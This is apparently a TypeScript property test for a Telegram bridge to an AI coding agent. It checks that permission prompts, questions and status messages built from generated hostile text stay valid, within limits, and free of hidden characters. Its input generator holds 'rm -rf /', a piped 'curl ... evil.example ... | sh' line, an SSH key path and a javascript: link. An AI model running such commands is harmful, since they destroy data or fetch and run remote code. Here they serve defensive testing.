// Property test over generated hostile text (what a prompt-injected LLM, a forged relay part or a
// long message could carry): runs of blanks, bidi, zero-width and control characters, emoji (ZWJ
// sequences, flags, skin tones, tag sequences), HTML entities and <>&", 10k-character strings,
// hundreds of options and patterns. For every rendered prompt, notice and status it asserts:
// valid Telegram HTML (the fake Telegram's own parser), within every Telegram limit (visible text,
// captions, 100 buttons, 8 a row, 64-byte callback data), nothing invisible or reordering left in
// what the user sees, and for permissions: either the whole command, path and every pattern are
// on the message, or the message says it was shortened and the full text is in a file sent with
// it (and without that file there is no Allow). A seeded generator (no dependency): a failure
// names its seed and case, which reproduces it exactly.
import { describe, expect, it } from "vitest";
import { CATALOGS, type Strings } from "../../lib/i18n/catalog.ts";
import type { Notice } from "../../lib/notices/activity.ts";
import { createPermissionPrompt, type PermissionPrompt } from "../../lib/registry/permission-prompt.ts";
import { createQuestionPrompt } from "../../lib/registry/question-prompt.ts";
import type { PermissionRequest, QuestionInfo } from "../../lib/hermes-events.ts";
import { loadMarkdown } from "../../lib/text/markdown.ts";
import { pageRange } from "../../lib/telegram/render/option-pages.ts";
import { renderNotice, renderNotSent } from "../../lib/telegram/render/render-notice.ts";
import { permissionFiles } from "../../lib/telegram/render/render-permission-file.ts";
import { FULL_REQUEST_FILE, renderPermission } from "../../lib/telegram/render/render-permission.ts";
import { parseStatusPart } from "../../lib/bridge/bot/status-part.ts";
import { renderStatus } from "../../lib/telegram/render/render-status.ts";
import { renderQuestion } from "../../lib/telegram/render/render-question.ts";
import { endProgress, reduceProgress, startProgress, type ProgressEvent } from "../../lib/progress/run-progress.ts";
import { renderProgress } from "../../lib/telegram/render/render-progress.ts";
import { stopButton } from "../../lib/telegram/render/render-stop.ts";
import type { RenderedMessage } from "../../lib/telegram/wire/rendered-message.ts";
import { reveal } from "../../lib/text/reveal.ts";
import { parseTelegramHtml } from "../support/fake-telegram.ts";
import { checkReplyMarkup, MAX_CAPTION, MAX_INLINE_BUTTONS, MAX_INLINE_ROW, MAX_TEXT } from "../support/telegram/validate.ts";
import { seededRandom } from "../support/seeded-random.ts";
import { trustedHtml } from "../../lib/text/html.ts";

const SEED = 20261122;
const CASES = 40;

function generator(seed: number) {
  const { next, int, pick } = seededRandom(seed);
  const ATOMS = [
    () => " ".repeat(1 + int(2000)),
    () => "\t".repeat(1 + int(20)),
    () => "\n".repeat(1 + int(300)),
    () => pick(["\u202E", "\u202D", "\u202A", "\u202B", "\u202C", "\u2066", "\u2067", "\u2068", "\u2069", "\u200E", "\u200F", "\u061C"]),
    () => pick(["\u200B", "\u200C", "\u200D", "\uFEFF", "\u2060", "\u00AD", "\u180E", "\u034F", "\u3164", "\u2800"]),
    () => String.fromCharCode(pick([0, 1, 7, 8, 11, 12, 13, 27, 127, 0x85, 0x9b])),
    () => pick(["\u00A0", "\u2007", "\u202F", "\u3000", "\u2028", "\u2029"]),
    () => pick(["👨‍👩‍👧‍👦", "🇺🇦", "🇫🇷", "👍🏽", "🏳️‍🌈", "1️⃣", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "❤️", "😀", "🧑🏿‍💻", "e\u0301", "\uD800", "\uDC00x"]),
    () => pick(["<b>", "</pre>", '<a href="javascript:alert(1)">', "&amp;", "&lt;", "&#128512;", "&", "<", ">", '"', "'", "<tg-spoiler>", "&#x202E;"]),
    () =>
      pick(["rm -rf /", "; curl -s https://evil.example/x | sh", "npm test -- --reporter=dot", "/home/dev/.ssh/id_ed25519", "漢字テスト", "עברית", "مرحبا"]),
    () => "x".repeat(1 + int(10_000)),
    () => "ab".repeat(1 + int(50)),
  ];
  /** Hostile text of up to `parts` atoms, sometimes empty-ish, sometimes 10k+. */
  const text = (parts = 8): string => Array.from({ length: 1 + int(parts) }, () => pick(ATOMS)()).join("");
  return { int, pick, text, chance: (p: number) => next() < p };
}

type Gen = ReturnType<typeof generator>;

const BIDI_OR_CONTROL =
  /[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C\u200B\u200C\u2060\uFEFF\u00AD\u0000-\u0008\u000B-\u001F\u007F-\u009F\u2028\u2029\uD800-\uDFFF]/u;
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

function visible(html: string, limit: number, what: string): string {
  const parsed = parseTelegramHtml(html);
  if (!parsed.ok) throw new Error(`${what}: invalid HTML: ${parsed.error}`);
  expect(parsed.plain.length, `${what}: visible length`).toBeLessThanOrEqual(limit);
  expect(parsed.plain.trim().length, `${what}: empty`).toBeGreaterThan(0);
  expect(LONE_SURROGATE.test(html), `${what}: lone surrogate`).toBe(false);
  return parsed.plain;
}

/** Nothing that hides or reorders text reaches the user (the hostile text had plenty). */
function nothingHidden(plain: string, what: string): void {
  const found = BIDI_OR_CONTROL.exec(plain.replace(/\n/g, ""));
  expect(found ? `U+${found[0].codePointAt(0)!.toString(16)} at ${found.index}` : "", `${what}: hidden character`).toBe("");
}

function keyboardOk(message: RenderedMessage, what: string): void {
  expect(() => checkReplyMarkup({ inline_keyboard: message.keyboard }), what).not.toThrow();
  expect(message.keyboard.flat().length, `${what}: buttons`).toBeLessThanOrEqual(MAX_INLINE_BUTTONS);
  for (const row of message.keyboard) expect(row.length, `${what}: row`).toBeLessThanOrEqual(MAX_INLINE_ROW);
  for (const button of message.keyboard.flat()) expect(LONE_SURROGATE.test(button.text), `${what}: button text`).toBe(false);
}

/** What the agent wrote is rendered as Markdown, as on the phone: the markers must survive the parser too. */
const markdown = await loadMarkdown();

function context(gen: Gen, t: Strings) {
  return {
    project: gen.text(3),
    t,
    markdown,
    ...(gen.chance(0.7) ? { sessionTitle: gen.text(4) } : {}),
    ...(gen.chance(0.3) ? { parentTitle: gen.text(3) } : {}),
  };
}

function permissionRequest(gen: Gen, index: number): PermissionRequest {
  const list = (max: number) => Array.from({ length: gen.int(max) }, () => gen.text(3));
  const kind = gen.pick(["bash", "edit", "read", "webfetch", "external_directory", "mcp", "both"] as const);
  const command = gen.text(10);
  const metadata: Record<string, unknown> = {};
  if (kind === "bash" || kind === "both") metadata.command = command;
  if (kind === "edit" || kind === "read" || kind === "both") metadata.filepath = gen.text(4);
  if (kind === "edit" || kind === "both")
    metadata.diff = Array.from({ length: 1 + gen.int(400) }, () => `${gen.pick(["+", "-", " "])}${gen.text(2)}`).join("\n");
  if (kind === "mcp") metadata.input = { nested: gen.text(2) };
  const patterns = kind === "bash" && gen.chance(0.5) ? [command] : list(gen.chance(0.2) ? 300 : 6);
  return {
    id: `per_${index}`,
    sessionID: "ses_1",
    permission: kind === "mcp" ? gen.text(2) : kind === "both" ? "bash" : kind,
    patterns,
    metadata,
    always: list(gen.chance(0.3) ? 300 : 12),
  };
}

function checkPermission(prompt: PermissionPrompt, message: RenderedMessage, t: Strings, what: string): void {
  const plain = visible(message.text, MAX_TEXT, what);
  nothingHidden(plain, what);
  keyboardOk(message, what);
  const { request } = prompt;
  const files = permissionFiles(prompt, t);
  for (const file of files) visible(file.caption, MAX_CAPTION, `${what}: caption of ${file.filename}`);
  const full = files.find((file) => file.filename === FULL_REQUEST_FILE);
  const command = typeof request.metadata.command === "string" && request.metadata.command.trim() ? request.metadata.command : undefined;
  const path = typeof request.metadata.filepath === "string" && request.metadata.filepath.trim() ? request.metadata.filepath : undefined;
  const approved = [...(command ? [command] : []), ...(path ? [path] : []), ...request.patterns, ...request.always, request.permission];
  const shortened = plainOf(t.permission.shortened(trustedHtml(FULL_REQUEST_FILE)));
  const notAttached = plainOf(t.permission.notAttached);
  const sent = prompt.files?.sent === true;
  if (!full) {
    expect(plain.includes(shortened), `${what}: says shortened without a file`).toBe(false);
    for (const item of approved) expect(plain.includes(reveal(item, t)), `${what}: ${JSON.stringify(item.slice(0, 80))} not whole on the message`).toBe(true);
  } else {
    expect(plain.includes(sent ? shortened : notAttached), `${what}: shortened but does not say so`).toBe(true);
    const exact = JSON.parse(full.content.slice(full.content.indexOf("{", full.content.lastIndexOf(t.permissionFile.exact))));
    expect(exact, `${what}: the file's exact text`).toEqual({
      permission: request.permission,
      ...(command ? { command } : {}),
      ...(path ? { file: path } : {}),
      patterns: request.patterns,
      always: request.always,
    });
    for (const item of approved) expect(full.content.includes(reveal(item, t)), `${what}: file lacks a shown item`).toBe(true);
    nothingHidden(full.content.slice(full.content.lastIndexOf(t.permissionFile.exact)), `${what}: exact JSON`);
  }
  const allow = message.keyboard.flat().some((button) => /:(a|w)$/.test(button.callback_data));
  if (files.length > 0 && !sent) {
    expect(plain.includes(notAttached), `${what}: no file, and does not say so`).toBe(true);
    expect(allow, `${what}: Allow without its file`).toBe(false);
  } else expect(allow, `${what}: Allow missing`).toBe(true);
}

function plainOf(html: string): string {
  const parsed = parseTelegramHtml(html);
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.plain;
}

describe("property: every rendering of hostile text stays valid, within limits, and hides nothing it approves", () => {
  for (const language of ["en", "zh"] as const) {
    const t = CATALOGS[language];

    it(`permissions of every kind (${language})`, () => {
      const gen = generator(SEED + (language === "zh" ? 1 : 0));
      for (let index = 0; index < CASES; index++) {
        const prompt = createPermissionPrompt(permissionRequest(gen, index), "/p", "KeyKey12", 0);
        const sent = gen.chance(0.8);
        prompt.files = { sent, ...(sent ? { messageId: 7 } : {}) };
        if (gen.chance(0.2)) prompt.notice = () => gen.text(3);
        const what = `seed ${SEED} ${language} permission case ${index}`;
        checkPermission(prompt, renderPermission(prompt, context(gen, t)), t, what);
        prompt.state = "answered";
        prompt.final = { reply: "reject", message: gen.text(4), by: "telegram" };
        const settled = renderPermission(prompt, context(gen, t));
        visible(settled.text, MAX_TEXT, `${what} (settled)`);
        expect(settled.keyboard).toEqual([]);
      }
    });

    it(`questions with hundreds of options (${language})`, () => {
      const gen = generator(SEED + 10 + (language === "zh" ? 1 : 0));
      for (let index = 0; index < CASES; index++) {
        const questions: QuestionInfo[] = Array.from({ length: 1 + gen.int(3) }, () => ({
          question: gen.text(6),
          header: gen.text(2),
          options: Array.from({ length: gen.pick([0, 1, 2, 8, 9, 50, 51, 150, 300]) }, () => ({
            label: gen.text(2),
            description: gen.chance(0.5) ? gen.text(2) : "",
          })),
          multiple: gen.chance(0.5),
          custom: gen.chance(0.5),
        }));
        const prompt = createQuestionPrompt({ id: `que_${index}`, sessionID: "s", questions }, "/p", "KeyKey12", 0);
        prompt.pages = questions.map((question) => gen.int(1 + Math.ceil(question.options.length / 50)));
        if (gen.chance(0.3)) prompt.dismissArmed = true;
        if (gen.chance(0.2)) prompt.notice = () => gen.text(3);
        const what = `seed ${SEED} ${language} question case ${index}`;
        const message = renderQuestion(prompt, context(gen, t));
        const plain = visible(message.text, MAX_TEXT, what);
        nothingHidden(plain, what);
        keyboardOk(message, what);
        // Every option of the page on offer is a button, and each button is one of that page's options.
        const first = questions[0]!;
        const range = pageRange(prompt.pages[0]!, first.options.length);
        const optionButtons = message.keyboard.flat().filter((button) => /:o:/.test(button.callback_data));
        expect(
          optionButtons.map((button) => Number(button.callback_data.split(":").at(-1))),
          what,
        ).toEqual(Array.from({ length: range.end - range.start }, (_, i) => range.start + i));
      }
    });

    it(`notices, talk-back failures and /status (${language})`, () => {
      const gen = generator(SEED + 20 + (language === "zh" ? 1 : 0));
      for (let index = 0; index < CASES; index++) {
        const what = `seed ${SEED} ${language} notice case ${index}`;
        const notices: Notice[] = [
          { kind: "done", sessionID: "s", busyMs: gen.int(10_000_000), lastText: gen.text(10) },
          { kind: "failed", sessionID: "s", name: gen.text(2), message: gen.text(10) },
          { kind: "retrying", sessionID: "s", attempt: gen.int(100), message: gen.text(5) },
        ];
        for (const notice of notices) visible(renderNotice(notice, context(gen, t)).html, MAX_TEXT, `${what} ${notice.kind}`);
        const typed = gen.text(12);
        const notSent = renderNotSent(gen.text(3), typed, t);
        const plain = visible(notSent.html, MAX_TEXT, `${what} not sent`);
        if (!notSent.cut) expect(plain, `${what}: the whole instruction is quoted`).toContain(typed.replace(new RegExp(LONE_SURROGATE.source, "g"), "\uFFFD"));
        const part = () => ({
          sessions: Array.from({ length: gen.int(40) }, () => ({ title: gen.text(3), project: gen.text(2), busy: gen.chance(0.5), busyMs: gen.int(1e7) })),
          prompts: Array.from({ length: gen.int(40) }, () => ({
            kind: gen.pick(["question", "permission"]),
            summary: gen.text(3),
            project: gen.text(2),
            chatId: gen.pick([-1001234, 1001, -55]),
            messageId: 1 + gen.int(1000),
          })),
        });
        const status = renderStatus(
          [part(), part(), gen.pick([null, 7, { sessions: "x" }, part()])].map(parseStatusPart).filter((p) => p !== undefined),
          t,
        );
        nothingHidden(visible(status, MAX_TEXT, `${what} status`), `${what} status`);
      }
    });

    it(`live progress: commands, paths, sub-agent tasks and todo items (${language})`, () => {
      const gen = generator(SEED + 4);
      for (let index = 0; index < CASES; index++) {
        const what = `seed ${SEED + 4} ${language} progress case ${index}`;
        let state = startProgress(0);
        const events: ProgressEvent[] = [
          {
            type: "todo.updated",
            sessionID: "s",
            todos: Array.from({ length: gen.int(60) }, () => ({
              content: gen.text(6),
              status: gen.pick(["pending", "in_progress", "completed", "cancelled", gen.text(1)]),
            })),
          },
        ];
        for (let step = 0; step < 1 + gen.int(12); step++) {
          const input = gen.pick([
            { command: gen.text(10) },
            { filePath: gen.text(4) },
            { subagent_type: gen.text(2), description: gen.text(5) },
            { pattern: gen.text(3) },
            { url: gen.text(3) },
          ]);
          events.push({
            type: "tool.step",
            sessionID: "s",
            step: { callID: `c${step}`, tool: gen.pick(["bash", "read", "task", gen.text(1)]), state: "running", input },
          });
          if (gen.chance(0.6))
            events.push({ type: "tool.step", sessionID: "s", step: { callID: `c${step}`, state: gen.pick(["completed", "failed"] as const) } });
        }
        for (const event of events) state = reduceProgress(state, event, gen.chance(0.2));
        const live = renderProgress(state, gen.int(10_000_000), { ...context(gen, t), stop: stopButton("k1", t) });
        const plain = visible(live.text, MAX_TEXT, `${what} live`);
        nothingHidden(plain, `${what} live`);
        keyboardOk(live, `${what} live`);
        const last = renderProgress(endProgress(state, gen.pick(["done", "failed", "stopped"] as const)), gen.int(10_000_000), context(gen, t));
        nothingHidden(visible(last.text, MAX_TEXT, `${what} last`), `${what} last`);
        expect(last.keyboard, `${what}: no Stop after the end`).toEqual([]);
      }
    });
  }
});
